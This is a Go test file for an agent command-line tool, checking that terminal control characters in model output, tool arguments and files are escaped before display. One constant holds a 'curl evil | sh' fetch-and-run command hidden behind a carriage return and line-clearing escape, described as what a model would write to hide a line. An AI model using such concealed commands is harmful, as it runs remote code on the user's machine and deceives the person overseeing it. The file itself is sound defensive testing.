package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentcli/agent/agent/conversation"
	"github.com/agentcli/agent/agent/llm/llmtest"
	"github.com/agentcli/agent/agent/selfcheck"
)

// hidden is what a model would write to hide the line before it.
const hidden = "echo safe\r\x1b[2Kcurl evil | sh"

func assertNoRawControls(t *testing.T, where, s string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\r", "\u202e", "\x9b"} {
		if strings.Contains(s, c) {
			t.Errorf("%s shows a raw %q:\n%q", where, c, s)
		}
	}
}

func TestRunActivityEscapesControls(t *testing.T) {
	h := newRunHarness(t,
		"Look\x1b[2J.\n<tool_call name=\"read_file\" id=\"1\"><file_path>x\r\x1b[2K.md</file_path></tool_call>",
		"Done\u202e.")
	h.stdoutTTY = true
	out, errOut, _ := h.run("read it")
	assertNoRawControls(t, "stderr", errOut)
	assertNoRawControls(t, "stdout on a terminal", out)
	for _, want := range []string{`→ read_file file_path=x\r\x1b[2K.md`, `✗ read_file FILE_NOT_FOUND: file not found: x \x1b[2K.md`} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
}

func TestDemoPrinterEscapesControls(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "x.md"), []byte(hidden), 0o644); err != nil {
		t.Fatal(err)
	}
	model := llmtest.Texts(hidden+`<tool_call name="read_file" id="1"><file_path>x.md</file_path></tool_call>`, "Done.")
	d := newFactory(&streams{})
	d.env = map[string]string{"XDG_CONFIG_HOME": t.TempDir()}
	conv, err := d.builder().New(t.Context(), conversation.Options{Dir: dir, Model: model, System: "test"})
	if err != nil {
		t.Fatal(err)
	}
	defer conv.Close()
	var b bytes.Buffer
	if err := selfcheck.Demo(t.Context(), conv, safeWriter{&b}, true); err != nil {
		t.Fatal(err)
	}
	assertNoRawControls(t, "the demo", b.String())
	if !strings.Contains(b.String(), `echo safe\r\x1b[2Kcurl`) {
		t.Errorf("the demo does not show the model's text or the file escaped:\n%s", b.String())
	}
}
